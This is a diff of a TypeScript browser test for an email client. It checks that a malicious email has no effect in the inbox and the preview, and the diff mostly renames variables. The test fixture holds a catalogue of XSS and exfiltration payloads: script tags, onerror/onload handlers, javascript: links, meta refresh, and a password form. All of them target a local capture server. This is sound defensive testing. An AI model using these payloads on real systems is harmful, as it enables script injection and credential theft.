@@ -1,4 +1,4 @@
-// A mail that means harm, in the inbox and in the preview: nothing runs, nothing is asked for, nothing is covered.
+// A malicious email, in the inbox and in the preview: no script runs, nothing is loaded, the page is not covered.
 import { once } from 'node:events';
 import { createServer, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
@@ -7,54 +7,54 @@ import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import { usePageLab, writeInto } from './support/page-lab.ts';
 
 const lab = usePageLab();
-let trap: Server;
-let trapUrl = '';
-let caught: string[] = [];
+let attackServer: Server;
+let attackUrl = '';
+let receivedRequests: string[] = [];
 
 beforeAll(async () => {
-  trap = createServer((request, response) => {
-    caught.push(`${request.method} ${request.url}`);
-    response.end('caught');
+  attackServer = createServer((request, response) => {
+    receivedRequests.push(`${request.method} ${request.url}`);
+    response.end('received');
   }).listen(0, '127.0.0.1');
-  await once(trap, 'listening');
-  trapUrl = `http://127.0.0.1:${(trap.address() as AddressInfo).port}`;
+  await once(attackServer, 'listening');
+  attackUrl = `http://127.0.0.1:${(attackServer.address() as AddressInfo).port}`;
 });
-afterAll(() => trap.close());
+afterAll(() => attackServer.close());
 beforeEach(() => {
-  caught = [];
+  receivedRequests = [];
 });
 
-const hostileHtml = () => `<!doctype html><html lang="en" onclick="top.document.title='owned'"><head>
-<base href="${trapUrl}/">
-<meta http-equiv="refresh" content="0;url=${trapUrl}/refresh">
+const maliciousHtml = () => `<!doctype html><html lang="en" onclick="top.document.title='owned'"><head>
+<base href="${attackUrl}/">
+<meta http-equiv="refresh" content="0;url=${attackUrl}/refresh">
 <meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'">
 <meta name="color-scheme" content="light dark">
-<link rel="stylesheet" href="${trapUrl}/link.css"><link rel="prefetch" href="${trapUrl}/prefetch"><link rel="icon" href="${trapUrl}/icon">
-<style>@import url("${trapUrl}/import.css"); @font-face { font-family: x; src: url("${trapUrl}/font") }
-body { font-family: x; background: url("${trapUrl}/background") }
+<link rel="stylesheet" href="${attackUrl}/link.css"><link rel="prefetch" href="${attackUrl}/prefetch"><link rel="icon" href="${attackUrl}/icon">
+<style>@import url("${attackUrl}/import.css"); @font-face { font-family: x; src: url("${attackUrl}/font") }
+body { font-family: x; background: url("${attackUrl}/background") }
 .cover { position: fixed; inset: -9999px; z-index: 2147483647; background: red; pointer-events: none }</style>
-<script src="${trapUrl}/script.js"></script><script>top.document.title = 'owned'; fetch('${trapUrl}/fetch'); alert(1)</script></head>
-<body onload="top.document.title='owned'; location='${trapUrl}/onload'">
+<script src="${attackUrl}/script.js"></script><script>top.document.title = 'owned'; fetch('${attackUrl}/fetch'); alert(1)</script></head>
+<body onload="top.document.title='owned'; location='${attackUrl}/onload'">
 <p id="words">Your code is 666777</p>
-<img src="${trapUrl}/image" srcset="${trapUrl}/srcset 2x" onerror="top.document.title='owned'" alt="">
-<img src="x:y" onerror="fetch('${trapUrl}/onerror')" alt=""><svg onload="top.document.title='owned'"><image href="${trapUrl}/svg"/></svg>
-<video src="${trapUrl}/video" autoplay></video><audio src="${trapUrl}/audio" autoplay></audio><object data="${trapUrl}/object"></object>
-<embed src="${trapUrl}/embed"><iframe src="${trapUrl}/iframe"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
-<p><a class="harm" href="javascript:top.document.title='owned'">script link</a>
-<a class="harm" href="${trapUrl}/self" target="_self">self</a> <a class="harm" href="${trapUrl}/top" target="_top">top</a>
-<a class="harm" href="${trapUrl}/blank" target="_blank">blank</a> <a class="harm" href="data:text/html,<script>alert(1)</script>" target="_self">data</a></p>
-<form action="${trapUrl}/form" method="post" target="_top"><input name="password" autofocus><button class="harm">Sign in</button></form>
+<img src="${attackUrl}/image" srcset="${attackUrl}/srcset 2x" onerror="top.document.title='owned'" alt="">
+<img src="x:y" onerror="fetch('${attackUrl}/onerror')" alt=""><svg onload="top.document.title='owned'"><image href="${attackUrl}/svg"/></svg>
+<video src="${attackUrl}/video" autoplay></video><audio src="${attackUrl}/audio" autoplay></audio><object data="${attackUrl}/object"></object>
+<embed src="${attackUrl}/embed"><iframe src="${attackUrl}/iframe"></iframe><iframe srcdoc="<script>top.document.title='owned'</script>"></iframe>
+<p><a class="attack" href="javascript:top.document.title='owned'">script link</a>
+<a class="attack" href="${attackUrl}/self" target="_self">self</a> <a class="attack" href="${attackUrl}/top" target="_top">top</a>
+<a class="attack" href="${attackUrl}/blank" target="_blank">blank</a> <a class="attack" href="data:text/html,<script>alert(1)</script>" target="_self">data</a></p>
+<form action="${attackUrl}/form" method="post" target="_top"><input name="password" autofocus><button class="attack">Sign in</button></form>
 <div class="cover"></div></body></html>`;
 
-/** What the browser says when it refuses one of them. */
-const refusals =
+/** What the browser logs when it blocks one of them. */
+const blockedMessages =
   /Content Security Policy|sandbox|Blocked|Refused|Not allowed|preload|violates|ERR_BLOCKED|ERR_ABORTED|ERR_UNKNOWN_URL_SCHEME|x:y| csp$/i;
 
-async function expectNoHarm(page: Page, frame: FrameLocator): Promise<void> {
+async function expectNoEffect(page: Page, frame: FrameLocator): Promise<void> {
   await frame.locator('#words').waitFor();
   const address = page.url();
   const title = await page.title();
-  const links = frame.locator('.harm');
+  const links = frame.locator('.attack');
   const linkCount = await links.count();
   expect(linkCount).toBe(6);
   for (let index = 0; index < linkCount; index += 1) {
@@ -62,13 +62,13 @@ async function expectNoHarm(page: Page, frame: FrameLocator): Promise<void> {
     await page.waitForTimeout(60);
   }
   await page.waitForTimeout(400);
-  expect(caught).toEqual([]);
+  expect(receivedRequests).toEqual([]);
   expect(await page.title()).toBe(title);
   expect(page.url()).toBe(address);
   expect(
     await page.evaluate('[...document.querySelectorAll("iframe")].map((frame) => frame.getAttribute("sandbox"))'),
   ).toEqual(['']);
-  // What covers, covers its own frame: the page's navigation is still on top.
+  // The overlay covers its own frame only: the page's navigation is still on top.
   const top = await page.evaluate(
     '(({ x, y }) => document.elementFromPoint(x + 8, y + 8).closest("nav") !== null)(document.querySelector("nav a").getBoundingClientRect())',
   );
@@ -77,23 +77,23 @@ async function expectNoHarm(page: Page, frame: FrameLocator): Promise<void> {
   await page.getByTestId('view-faults').waitFor();
 }
 
-describe('a hostile mail does nothing', () => {
+describe('a malicious email has no effect', () => {
   it('in the inbox', async () => {
-    await lab.post({ subject: '<script>alert(1)</script><img src=x onerror=alert(1)>', html: hostileHtml() });
-    const page = await lab.open('#/inbox', { expects: refusals });
+    await lab.post({ subject: '<script>alert(1)</script><img src=x onerror=alert(1)>', html: maliciousHtml() });
+    const page = await lab.open('#/inbox', { expectedProblems: blockedMessages });
     await page.locator('[data-message-id]').click();
     await page.getByText('Remote images are not loaded here').waitFor();
-    await expectNoHarm(page, page.frameLocator('.mail-frame'));
+    await expectNoEffect(page, page.frameLocator('.email-frame'));
   });
 
   it('in the preview', async () => {
-    const page = await lab.open('#/configure', { expects: refusals });
-    await writeInto(page, 'Deliveries', JSON.stringify({ Generic: { subject: 'Hi', html: hostileHtml() } }));
+    const page = await lab.open('#/configure', { expectedProblems: blockedMessages });
+    await writeInto(page, 'Deliveries', JSON.stringify({ Generic: { subject: 'Hi', html: maliciousHtml() } }));
     await page.goto(`${lab.studio.url}/#/preview/Generic`);
-    await expectNoHarm(page, page.frameLocator('.mail-frame:not(.mail-frame-coming)'));
+    await expectNoEffect(page, page.frameLocator('.email-frame:not(.email-frame-loading)'));
   });
 
-  it('as a list of links: only web addresses can be opened', async () => {
+  it('in the list of links, where only web addresses are links', async () => {
     await lab.post({
       subject: 'Links',
       html: '<p><a href="javascript:alert(1)">a</a> <a href="https://example.com/ok">b</a></p>',
